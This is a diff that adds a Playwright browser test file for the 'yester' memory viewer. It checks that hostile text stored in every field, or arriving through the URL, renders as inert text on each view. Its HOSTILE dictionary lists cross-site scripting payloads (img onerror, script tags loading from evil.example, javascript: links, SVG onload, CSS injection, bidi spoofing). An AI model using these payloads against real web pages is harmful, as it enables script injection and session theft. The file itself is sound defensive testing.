@@ -1,0 +1,195 @@
+"""Text that wants to be more than text, in every field that is stored, on every view there is."""
+
+from __future__ import annotations
+
+import json
+import time
+
+import pytest
+from playwright.sync_api import Page, expect
+
+import yester
+from tests.browser.views import COUNTING, VIEWS, address, opened
+from yester.ingest import prepared
+from yester.model import Change, Event, Injection, Item, Memo, Project, Session, Spend
+
+pytestmark = [pytest.mark.browser, pytest.mark.requirement("DEL-10", "OPS-03")]
+MARK = "<img src=x onerror="
+HOSTILE = {
+    "image": f"{MARK}window.owned=1> and words",
+    "script": '</script><script src="//evil.example/x.js">window.owned=2</script><!--',
+    "address": "javascript:window.owned=3//https://evil.example/",
+    "svg": "<svg onload=window.owned=4><style>*{display:none}</style><a href=javascript:1>x</a>",
+    "bidi": "\u202egnp.exe\u2066\u200b\u200d\u2028\u0007 turned around",
+    "long": "W" * 10_000,
+    "emoji": "🧨👩‍👩‍👧‍👦 שלום עולם مرحبا بالعالم 你好",
+    "template": "${window.owned=5} {{7*7}} `window.owned=6` %s %d \\u003cimg\\u003e &lt;b&gt;",
+    "style": "} * { display: none !important } /* url(https://evil.example/a.png) expression(1)",
+    "quotes": "\"'><input autofocus onfocus=window.owned=7><iframe src=//evil.example>",
+    "spaces": "   ",
+}
+SECTIONS = ("request", "investigated", "learned", "completed", "next_steps", "notes")
+
+
+@pytest.fixture(scope="module")
+def home(tmp_path_factory):
+    """A project, a session, and an item of each kind for each text, which is in all their fields;
+    number n of each belongs to the n-th text. The image is the newest, so that it is in sight."""
+    path, now = tmp_path_factory.mktemp("hostile") / "memory", int(time.time() * 1000)
+    with yester.open(path) as memory, memory.store.transaction():
+        for number, text in enumerate(HOSTILE.values()):
+            _fill(memory.store, number, text, now - number * 60_000)
+    lists = json.dumps(
+        [text for text in HOSTILE.values() if "\u2028" not in text], ensure_ascii=False
+    )
+    (path / "config.toml").write_text(f"exclude = {lists}\n", "utf-8")
+    (path / "config.toml").chmod(0o600)
+    open_to_all = path / f"{MARK}window.owned=8>"  # the doctor names it
+    open_to_all.touch()
+    open_to_all.chmod(0o666)
+    return path
+
+
+def _fill(store, number, text, now):
+    key = f"dir:/{number}/{text}"
+    store.put_project(Project(key, text, f"/{text}", text))
+    session = store.put_session(
+        Session(
+            f"session-{number}", text, key, now - 5_000, now, f"/{text}", text, text, text, 1, 4
+        )
+    )
+
+    def item(kind, **more):
+        return Item(
+            f"{kind}-{number}", kind, key, f"session-{number}", text, text, text, epoch=now,
+            title=text, subtitle=text, body=f"{text}\n{text}", facts=(text, text),
+            concepts=(text,), tags=(text,), files_read=(text,), files_modified=(f"src/{text}",),
+            discovery_tokens=100, **more,
+        )  # fmt: skip
+
+    store.put([
+        prepared(item("prompt", role="user", prompt_number=1)),
+        prepared(item("message", role="tool", tool=text)),
+        prepared(item("observation", type=text)),
+        prepared(item("summary", sections=dict.fromkeys(SECTIONS, text))),
+        prepared(item("note", type=text)),
+    ])  # fmt: skip
+    memo = Memo(
+        item("memory", type="decision", origin="user"), f"slug-{number}", "path", text,
+        {"decision": text, "rationale": [text, text], "context": text}, since=now, reason=text,
+    )  # fmt: skip
+    change = Change(0, now, text, "create", text, None, {"title": text, "text": text})
+    id_ = store.put_memo(prepared(memo.item), memo, change)
+    found = store.find(f"observation-{number}")[0].id
+    store.put_injections([
+        Injection(session, "UserPromptSubmit", one, 0.5, 20, now, text, 1) for one in (found, id_)
+    ])  # fmt: skip
+    store.put_events([Event(f"e{number}", text, now, session, tool=text, skipped=text, lag=5)])
+    store.put_skipped(text, {text: 100 - number})
+    store.put_spend(Spend(now, text, text, 5, 5, 0.01, outcome=text))
+
+
+@pytest.fixture
+def watched(window, server):
+    """What the browser does that it must not."""
+    window.add_init_script(COUNTING)
+    seen: list[str] = []
+    own = f"http://{server.host}/"
+    window.on(
+        "request",
+        lambda one: None if one.url.startswith((own, "data:")) else seen.append(f"asks {one.url}"),
+    )
+    window.on("dialog", lambda one: (seen.append(f"says {one.message}"), one.dismiss()))
+    window.on("page", lambda page: seen.append(f"opens {page.url}") if len(window.pages) > 1 else 0)
+    return seen
+
+
+def numbers(server, place):
+    """An item, a session and a memory whose fields hold the text at this place."""
+    ids = {}
+    with yester.open(server.home) as memory:
+        for kind in ("observation", "summary", "message", "memory"):
+            ids[kind] = memory.store.find(f"{kind}-{place}")[0].id
+    found = {
+        one["session"]: one["db_id"] for one in server.get("/api/sessions", limit=100)["sessions"]
+    }
+    return ids, found[f"session-{place}"]
+
+
+def places(server, route):
+    """The addresses at which a view shows the texts."""
+    if ":" not in route.path:
+        shown = address(route)
+        return [(shown + "?query=words", 0)] if route.path == "/search" else [(shown, 0)]
+    found = []
+    for place in range(len(HOSTILE)):
+        ids, session = numbers(server, place)
+        kinds = ("observation", "summary", "message") if route.path == "/item/:id" else ("memory",)
+        found += [(address(route, ids[kind], session, ids["memory"]), place) for kind in kinds]
+    return list(dict.fromkeys(found))
+
+
+_UNFOLD = "document.querySelectorAll('main details').forEach((one) => { one.open = true })"
+_STRANGE = """() => [...document.querySelectorAll(
+    "img, iframe, object, embed, base, form[action], main script, main style, main input[onfocus]")]
+  .concat([...document.querySelectorAll("a")].filter((one) => !/^#/.test(one.getAttribute("href"))))
+  .concat([...document.querySelectorAll("*")].filter((one) =>
+    [...one.attributes].some(({ name }) => name.startsWith("on"))))
+  .map((one) => one.cloneNode().outerHTML)"""
+_WIDE = """() => [document.scrollingElement, document.querySelector("main")]
+  .map((one) => one.scrollWidth - one.clientWidth)"""
+_WIDEST = """() => [...document.querySelectorAll("main *")].filter((one) =>
+    one.getBoundingClientRect().right > innerWidth + 1 && !one.closest(".wide, pre, .list"))
+  .slice(0, 3).map((one) => `${one.tagName}.${one.className}`)"""
+
+
+def harmless(page: Page, watched: list[str]) -> None:
+    assert page.evaluate("window.owned") is None
+    assert page.evaluate(_STRANGE) == []
+    assert watched == []
+
+
+@pytest.mark.parametrize("route", VIEWS, ids=lambda route: route.path)
+def test_hostile_text_stays_text_on_every_view(watched, viewer, route):
+    for place, number in places(viewer.server, route):
+        opened(viewer.page, place)
+        viewer.page.evaluate(_UNFOLD)
+        expect(viewer.page.get_by_role("heading", level=1)).to_have_count(1)
+        harmless(viewer.page, watched)
+        if number == 0 and route.path != "/review":  # it may have nothing to say of them
+            expect(viewer.page.locator("main")).to_contain_text(MARK)
+
+
+@pytest.mark.parametrize("route", VIEWS, ids=lambda route: route.path)
+def test_hostile_text_makes_no_view_wider_than_a_phone(watched, viewer, route):
+    viewer.page.set_viewport_size({"width": 400, "height": 800})
+    for place, _ in places(viewer.server, route):
+        opened(viewer.page, place)
+        viewer.page.evaluate(_UNFOLD)
+        assert max(viewer.page.evaluate(_WIDE)) <= 0, (place, viewer.page.evaluate(_WIDEST))
+
+
+def test_hostile_text_that_comes_in_live_stays_text(watched, viewer):
+    page = viewer.page
+    expect(page.locator(".live")).to_have_text("live")
+    with yester.open(viewer.server.home) as memory:
+        memory.add(
+            [{"ref": f"live-{name}", "kind": "observation", "title": f"{text} live", "text": text}
+             for name, text in HOSTILE.items()], embed="later",
+        )  # fmt: skip
+    opened(page, "#/")
+    expect(page.get_by_text("window.owned=1> and words live").first).to_be_visible()
+    harmless(page, watched)
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
+def test_hostile_text_in_the_address_stays_text(watched, viewer, text):
+    """What a link from elsewhere can bring."""
+    quoted = viewer.page.evaluate("encodeURIComponent", text)
+    for place in (f"#/search?query={quoted[:1500]}", f"#/?project={quoted[:300]}",
+                  f"#/stats?days={quoted[:300]}", f"#/projects?sort={quoted[:300]}",
+                  f"#/settings?show={quoted[:300]}", f"#/{quoted[:300]}"):  # fmt: skip
+        viewer.page.evaluate("place => { location.hash = place }", place)
+        expect(viewer.page.get_by_role("heading", level=1)).to_have_count(1)
+        harmless(viewer.page, watched)
+    viewer.complaints[:] = [one for one in viewer.complaints if "Failed to load" not in one]
